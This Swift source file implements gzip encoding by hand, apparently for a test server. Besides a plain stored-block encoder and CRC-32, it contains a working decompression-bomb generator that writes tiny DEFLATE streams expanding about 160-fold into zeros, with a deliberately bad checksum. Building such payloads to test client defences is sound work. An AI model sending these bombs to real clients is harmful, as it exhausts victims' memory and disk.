/// Content in the gzip format (RFC 1952), for servers that send coded replies. It is written by hand and needs no library.
public enum Gzip {
  /// Packs `bytes` without compression: one block of the format, so at most 65,535 of them.
  public static func stored(_ bytes: [UInt8]) -> [UInt8] {
    let count = UInt16(bytes.count)
    let block = [1] + littleEndian(count) + littleEndian(~count) + bytes
    return header + block + littleEndian(checksum(bytes)) + littleEndian(UInt32(bytes.count))
  }

  /// Makes a bomb: about 160 times fewer bytes than the zeros that they unpack to.
  ///
  /// The checksum at the end is wrong: a client that gets there has taken too much already.
  public static func bomb(unpackedBytes: Int) -> [UInt8] {
    var bits = BitWriter()
    bits.write(0b1, count: 1)  // the last block
    bits.write(0b01, count: 2)  // with the fixed codes (RFC 1951 §3.2.6)
    bits.writeCode(0x30, count: 8)  // a zero
    for _ in 0..<(unpackedBytes / 258) {
      bits.writeCode(0b1100_0101, count: 8)  // 258 bytes
      bits.writeCode(0, count: 5)  // like the one before
    }
    bits.writeCode(0, count: 7)  // the end
    return header + bits.finished() + [0, 0, 0, 0, 0, 0, 0, 0]
  }

  private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]

  private static func littleEndian<Number: FixedWidthInteger>(_ number: Number) -> [UInt8] {
    withUnsafeBytes(of: number.littleEndian) { Array($0) }
  }

  /// The CRC-32 of RFC 1952 §8.
  private static func checksum(_ bytes: [UInt8]) -> UInt32 {
    var remainder = UInt32.max
    for byte in bytes {
      remainder ^= UInt32(byte)
      for _ in 0..<8 { remainder = remainder & 1 == 1 ? 0xEDB8_8320 ^ (remainder >> 1) : remainder >> 1 }
    }
    return ~remainder
  }
}

/// Bits packed from the low end of each byte (RFC 1951 §3.1.1).
private struct BitWriter {
  private var bytes: [UInt8] = []
  private var used = 8

  mutating func write(_ bits: Int, count: Int) {
    for position in 0..<count { append(bits >> position & 1) }
  }

  /// Codes are packed from their high bit.
  mutating func writeCode(_ code: Int, count: Int) {
    for position in (0..<count).reversed() { append(code >> position & 1) }
  }

  func finished() -> [UInt8] { bytes }

  private mutating func append(_ bit: Int) {
    if used == 8 {
      bytes.append(0)
      used = 0
    }
    bytes[bytes.count - 1] |= UInt8(bit << used)
    used += 1
  }
}
